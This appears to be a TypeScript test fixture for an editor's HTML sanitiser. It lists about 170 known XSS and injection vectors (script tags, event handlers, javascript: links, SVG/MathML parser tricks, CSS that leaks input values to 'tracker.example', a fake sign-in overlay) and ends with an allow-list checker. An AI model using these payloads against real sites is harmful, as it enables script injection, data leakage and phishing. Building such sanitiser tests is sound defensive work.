/** HTML that would run or load something if it were shown unchanged. */
export interface HtmlVector {
  readonly name: string
  readonly html: string
}

/** The effect of every vector's script: a page with `window[ranFlag]` has run one. */
export const ranFlag = 'htmlVectorRan'
const run = `window.${ranFlag}=1`

/** The host of every vector's address; no request may go there. */
export const trackerHost = 'tracker.example'
const tracker = `https://${trackerHost}`

/** The vector after a word, as the content of an article, because an article needs text. */
export const articleWith = ({ html }: HtmlVector): string => `<p>Before</p>${html}`

const table: Readonly<Record<string, string>> = {
  // Vectors with script elements.
  'a script': `<script>${run}</script>`,
  'a script from elsewhere': `<script src="${tracker}/a.js"></script>`,
  'a script with mixed capitals': `<ScRiPt>${run}</sCrIpT>`,
  'a script with an attribute and a slash': `<script/x>${run}</script/x>`,
  'a script that is never closed': `<script>${run}`,
  'a script with a line break in its tag': `<script\n>${run}</script\n>`,
  'a script within a script': `<scr<script>ipt>${run}</scr</script>ipt>`,
  'a script of type module': `<script type="module">import "${tracker}/m.js"</script>`,
  'a script by a data address': `<script src="data:text/javascript,${run}"></script>`,
  'a script after a closed title': `</title><script>${run}</script>`,
  'a script after a closed text area': `</textarea><script>${run}</script>`,
  'a script after a closed style': `</style></script><script>${run}</script>`,
  'a script after a null byte': `<scri\u0000pt>${run}</scri\u0000pt><script>${run}</script>`,
  'a script behind a nonce': `<script nonce="abc">${run}</script>`,
  'an import map': `<script type="importmap">{"imports":{"x":"${tracker}/x.js"}}</script>`,
  'speculation rules': `<script type="speculationrules">{"prefetch":[{"urls":["${tracker}/p"]}]}</script>`,

  // Vectors with handlers on elements that fire without a person's action.
  'an image that fails': `<img src=x onerror="${run}">`,
  'an image that fails, unquoted': `<img src=x onerror=${run}>`,
  'an image that fails, with slashes for blanks': `<img/src=x/onerror=${run}>`,
  'an image that fails, with a form feed': `<img\u000csrc=x\u000conerror="${run}">`,
  'an image that fails, with backticks': `<img src=\`x\` onerror=\`${run}\`>`,
  'an image that fails, its handler in entities': `<img src=x onerror="&#119;indow.${ranFlag}=1">`,
  'an image that fails, its handler in capitals': `<IMG SRC=x ONERROR="${run}">`,
  'an image that loads': `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${run}">`,
  'an image whose quote is never closed': `<img src=x onerror="${run}"><p title="`,
  'an image of two handlers': `<img src=x onerror="${run}" onerror="${run}" onload="${run}">`,
  'an image in an attribute of another': `<img alt="<img src=x onerror=${run}>" src=x>`,
  'an image with its handler first': `<img onerror="${run}" src=x>`,
  'the old word for an image': `<image src=x onerror="${run}">`,
  'a body that loads': `<body onload="${run}">`,
  'a body with a hash': `<body onhashchange="${run}" onpageshow="${run}">`,
  'an svg that loads': `<svg onload="${run}"></svg>`,
  'an svg that loads, closed by nothing': `<svg/onload=${run}`,
  'a video that fails': `<video src=x onerror="${run}"></video>`,
  'a source that fails': `<video><source src=x onerror="${run}"></video>`,
  'a track that fails': `<video controls><track default src=x onerror="${run}"></video>`,
  'a sound that fails': `<audio src=x onerror="${run}"></audio>`,
  'an object that fails': `<object data=x onerror="${run}"></object>`,
  'an embedded file that loads': `<embed src=x onload="${run}">`,
  'a frame that loads': `<iframe onload="${run}"></iframe>`,
  'an input with the focus': `<input autofocus onfocus="${run}">`,
  'a text area with the focus': `<textarea autofocus onfocus="${run}"></textarea>`,
  'a select with the focus': `<select autofocus onfocus="${run}"></select>`,
  'a key generator with the focus': `<keygen autofocus onfocus="${run}">`,
  'any element with the focus': `<p tabindex=1 autofocus onfocus="${run}">x</p>`,
  'an editable element with the focus': `<p contenteditable autofocus onfocusin="${run}">x</p>`,
  'a details that opens': `<details open ontoggle="${run}"><summary>x</summary></details>`,
  'a marquee that starts': `<marquee onstart="${run}">x</marquee>`,
  'a marquee that bounces': `<marquee loop=1 behavior=alternate width=0 onbounce="${run}">x</marquee>`,
  'an animation that starts': `<style>@keyframes a{}</style><p style="animation:a 1s" onanimationstart="${run}">x</p>`,
  'a transition that ends': `<p style="transition:color 1ms" ontransitionend="${run}" tabindex=1 autofocus>x</p>`,
  'a popover that is toggled': `<div popover=auto onbeforetoggle="${run}">x</div><button popovertarget=x>y</button>`,
  'a scroll to an anchor': `<div onscroll="${run}" style="overflow:auto;height:1px"><p>x</p><p id=y autofocus tabindex=1>y</p></div>`,
  'a script that is no script': `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,

  // Vectors with handlers that wait for a person's action.
  'a click': `<p onclick="${run}">x</p>`,
  'a pointer that comes by': `<p onmouseover="${run}" onpointerenter="${run}">x</p>`,
  'a wheel': `<p onwheel="${run}">x</p>`,
  'a copy': `<p oncopy="${run}" oncut="${run}" onpaste="${run}">x</p>`,
  'a drag': `<p draggable=true ondragstart="${run}">x</p>`,
  'a context menu': `<p oncontextmenu="${run}">x</p>`,
  'an access key': `<p accesskey=x onclick="${run}">x</p>`,
  'an unknown element': `<travel-card onclick="${run}">x</travel-card>`,
  'a handler with a colon': `<p xlink:onclick="${run}" on:click="${run}">x</p>`,

  // Vectors with script addresses.
  'a link to a script': `<a href="javascript:${run}">x</a>`,
  'a link to a script, in capitals': `<a href="JaVaScRiPt:${run}">x</a>`,
  'a link to a script, with a tab in it': `<a href="java\tscript:${run}">x</a>`,
  'a link to a script, with a line break in it': `<a href="java&#10;script:${run}">x</a>`,
  'a link to a script, after a control character': `<a href="\u0001javascript:${run}">x</a>`,
  'a link to a script, in entities': `<a href="&#106;&#97;vascript&colon;${run}">x</a>`,
  'a link to a script, in entities without an end': `<a href="&#0000106avascript:${run}">x</a>`,
  'a link to a script of another language': `<a href="vbscript:${run}">x</a>`,
  'a link to a page in an address': `<a href="data:text/html,<script>${run}</script>">x</a>`,
  'a link whose address has two lines': `<a href="javascript://%0a${run}">x</a>`,
  'a link that notes its click': `<a href="#" ping="${tracker}/ping">x</a>`,
  'a link into a new window': `<a href="${tracker}/page" target="_blank" rel="opener">x</a>`,
  'a part of an image that is a link': `<map name=m><area shape=rect coords="0,0,99,99" href="javascript:${run}"></map><img usemap="#m" src=x>`,
  'a form to a script': `<form action="javascript:${run}"><input type=submit autofocus></form>`,
  'a button to a script': `<form><button formaction="javascript:${run}">x</button></form>`,
  'an input to a script': `<form><input type=image src=x formaction="javascript:${run}"></form>`,
  'a base that is a script': `<base href="javascript:${run}//"><a href="x">y</a>`,
  'an object of a script': `<object data="javascript:${run}"></object>`,
  'an embedded script': `<embed src="javascript:${run}">`,
  'a frame of a script': `<iframe src="javascript:parent.${ranFlag}=1"></iframe>`,
  'a frame of a page in an attribute': `<iframe srcdoc="<script>parent.${ranFlag}=1</script>"></iframe>`,
  'a frame of a page in entities': `<iframe srcdoc="&lt;img src=x onerror=&quot;parent.${ranFlag}=1&quot;&gt;"></iframe>`,
  'a frame of a page in an address': `<iframe src="data:text/html,<script>parent.${ranFlag}=1</script>"></iframe>`,
  'a frame set': `<frameset><frame src="javascript:${run}"></frameset>`,
  'an image of a script': `<img src="javascript:${run}">`,
  'a background of a script': `<table background="javascript:${run}"><tr><td>x</td></tr></table>`,

  // Vectors that redirect the page.
  'a page that turns to a script': `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  'a page that turns elsewhere': `<meta http-equiv="refresh" content="0;url=${tracker}/away">`,
  'a cookie by a meta': '<meta http-equiv="Set-Cookie" content="a=b">',
  'a policy by a meta': `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><script>${run}</script>`,

  // Vectors in other languages inside the page.
  'a script in an svg': `<svg><script>${run}</script></svg>`,
  'a script in an svg, in entities': `<svg><script>&#119;indow.${ranFlag}=1</script></svg>`,
  'a script in an svg from elsewhere': `<svg><script href="${tracker}/s.js"/></svg>`,
  'an svg that is animated into a script': `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=9>x</text></a></svg>`,
  'an svg that is set to a script': `<svg><set attributeName=onload to="${run}"/></svg>`,
  'an svg whose animation begins': `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  'an svg that uses another': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${run}'/></svg>#x"/></svg>`,
  'an svg with a page in it': `<svg><foreignObject><iframe onload="${run}"></iframe></foreignObject></svg>`,
  'an svg image from elsewhere': `<svg><image href="${tracker}/i.svg"/></svg>`,
  'an svg title that is html': `<svg><title><img src=x onerror="${run}"></title></svg>`,
  'an svg style that ends early': `<svg><style><img src=x onerror="${run}"></style></svg>`,
  'a formula that is a link': `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  'a formula with html in it': `<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'a formula in a table in a formula': `<math><mtext><table><mglyph><style><math><img src onerror=${run}></style></mglyph></table></mtext></math>`,
  'a form in a form in a formula': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  'an annotation that is html': `<math><annotation-xml encoding="text/html"><img src=x onerror="${run}"></annotation-xml></math>`,
  'an svg that ends in a paragraph': `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,

  // Vectors that become markup when they are parsed again.
  'a comment that ends in a bang': `<!--!><img src=x onerror="${run}">-->`,
  'a comment that ends at once': `<!--><img src=x onerror="${run}">-->`,
  'a comment that never ends': `<!-- <img src=x onerror="${run}">`,
  'a comment for an old browser': `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  'a section of characters': `<![CDATA[<img src=x onerror="${run}">]]>`,
  'an instruction': `<?xml-stylesheet type="text/css"?><img src=x onerror="${run}">`,
  'a document type': `<!doctype html><html onclick="${run}"><head><script>${run}</script></head>`,
  'a text area in a title': `<title><textarea></title><img src=x onerror="${run}"></textarea>`,
  'raw text': `<xmp><img src="</xmp><img src=x onerror=${run}>"></xmp>`,
  'raw text without an end': `<plaintext><img src=x onerror="${run}">`,
  'a frame of raw text': `<noframes><p title="</noframes><img src=x onerror=${run}>"></noframes>`,
  'an embedded raw text': `<noembed><p title="</noembed><img src=x onerror=${run}>"></noembed>`,
  'a template': `<template><img src=x onerror="${run}"></template>`,
  'a template with a shadow': `<div><template shadowrootmode="open"><img src=x onerror="${run}"></template></div>`,
  'a slot': `<slot onslotchange="${run}"><p>x</p></slot>`,
  'a select that throws its content out': `<select><style><img src=x onerror="${run}"></style></select>`,
  'a table that throws its content out': `<table><img src=x onerror="${run}"><tr><td>x</td></tr></table>`,
  'markup in entities': `&lt;img src=x onerror=${run}&gt;`,
  'markup in entities of entities': `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  'markup in an attribute': `<p title="<img src=x onerror=${run}>">x</p>`,
  'markup in an attribute after a line separator': `<p title="\u2028<img src=x onerror=${run}>">x</p>`,
  'small brackets': `\uff1cimg src=x onerror=${run}\uff1e`,
  'a tag that is never closed': `<img src=x onerror="${run}"`,
  'deep nesting': `${'<div>'.repeat(600)}<img src=x onerror="${run}">${'</div>'.repeat(600)}`,

  // Vectors with names that shadow the page's own members.
  'an element of a name of the page': `<form id=body><input name=parentNode></form><img name=getElementById src=x>`,
  'a form whose attributes are an input': `<form onclick="${run}"><input name=attributes><input name=childNodes></form>`,
  'a form whose node name is an input': `<form><input name=nodeName><input name=textContent><img src=x onerror="${run}"></form>`,
  'the name of a prototype': `<p id="__proto__" class="constructor">x</p>`,

  // Vectors that load something and run nothing.
  'an image from elsewhere': `<img src="${tracker}/pixel.gif">`,
  'an image of several sizes': `<img srcset="${tracker}/1.png 1x, ${tracker}/2.png 2x">`,
  'a picture of several kinds': `<picture><source srcset="${tracker}/1.webp"><img src=x></picture>`,
  'a film and its poster': `<video poster="${tracker}/poster.png" src="${tracker}/film.mp4" autoplay></video>`,
  'subtitles from elsewhere': `<video><track default src="${tracker}/subtitles.vtt"></video>`,
  'subtitles from elsewhere in a template': `<template><video><TRACK/default src="${tracker}/subtitles.vtt"></video></template>`,
  'a base from elsewhere': `<base href="${tracker}/"><img src="pixel.gif">`,
  'a sound from elsewhere': `<audio src="${tracker}/a.mp3" autoplay></audio>`,
  'a page from elsewhere': `<iframe src="${tracker}/page"></iframe>`,
  'an old frame from elsewhere': `<object data="${tracker}/o"></object><embed src="${tracker}/e">`,
  'a style sheet from elsewhere': `<link rel="stylesheet" href="${tracker}/a.css">`,
  'a file fetched ahead': `<link rel="preload" as="script" href="${tracker}/p.js"><link rel="dns-prefetch" href="${tracker}">`,
  'a manifest': `<link rel="manifest" href="${tracker}/m.json">`,
  'a style that imports': `<style>@import url("${tracker}/a.css");</style>`,
  'a style with a font': `<style>@font-face{font-family:a;src:url("${tracker}/f.woff2")}p{font-family:a}</style>`,
  'a style that reads an attribute': `<style>input[value^="a"]{background:url("${tracker}/a")}</style>`,
  'a style that hides the page': '<style>body{display:none!important}</style>',
  'a background': `<p style="background:url('${tracker}/bg.png')">x</p>`,
  'a background, escaped': `<p style="background:\\75rl('${tracker}/bg.png')">x</p>`,
  'a cursor': `<p style="cursor:url('${tracker}/c.cur'),auto">x</p>`,
  'a mark of a list': `<ul style="list-style-image:url('${tracker}/dot.png')"><li>x</li></ul>`,
  'a style that was a script once': `<p style="width:expression(${run})">x</p>`,
  'a style that was bound once': `<p style="-moz-binding:url('${tracker}/x.xml#a');behavior:url('${tracker}/x.htc')">x</p>`,
  'a style on a word in bold': `<strong style="font-weight:700;background-image:url('${tracker}/b.png')" onclick="${run}">x</strong>`,
  'a list entry with a picture': `<ol><li style="background:url('${tracker}/li.png')" onmouseover="${run}">x</li></ol>`,
  'an element over the whole screen': `<div style="position:fixed;inset:0;z-index:9999"><a href="${tracker}/login">Sign in again</a></div>`,
  'the markup of the editor itself': `<ol><li data-list="bullet"><span class="ql-ui" contenteditable="false" onclick="${run}"></span>x</li></ol>`,
  'a formula of the editor': `<span class="ql-formula" data-value="<img src=x onerror=${run}>">x</span>`,
  'a film of the editor': `<iframe class="ql-video" src="javascript:${run}"></iframe>`,
  'a code of the editor': `<pre class="ql-syntax" data-language="&quot;><img src=x onerror=${run}>">x</pre>`,
}

/** Known HTML injections against other editors, sanitisers and browsers, in this project's own words. */
export const htmlVectors: readonly HtmlVector[] = Object.entries(table).map(([name, html]) => ({
  name,
  html,
}))

/** The elements of the read view, with the attributes that each may have. */
const viewElements: Readonly<Record<string, readonly string[]>> = Object.fromEntries([
  ...'p br h1 h2 h3 h4 h5 h6 pre hr strong em u s sub sup code q small ul ol li blockquote dl dt dd'
    .concat(' table caption thead tbody tfoot tr th td')
    .split(' ')
    .map((name) => [name, []] as const),
  ['a', ['href']],
  ['img', ['src', 'alt']],
])

/** Returns every unsafe part of a read view: an element, an attribute or an address that it must not have. */
export const unsafeParts = (view: Element, imageOrigins: readonly string[]): readonly string[] =>
  [...view.querySelectorAll('*')].flatMap((element) => {
    const { localName } = element
    const allowed = viewElements[localName]
    const odd = element.getAttributeNames().filter((name) => !allowed?.includes(name))
    const href = element.getAttribute('href')
    const src = element.getAttribute('src')
    return [
      ...(allowed ? [] : [localName]),
      ...odd.map((name) => `${localName} ${name}`),
      ...(href === null || /^(https:|mailto:)/.test(href) ? [] : [`a href=${href}`]),
      ...(src === null || imageOrigins.includes(new URL(src).origin) ? [] : [`img src=${src}`]),
    ]
  })
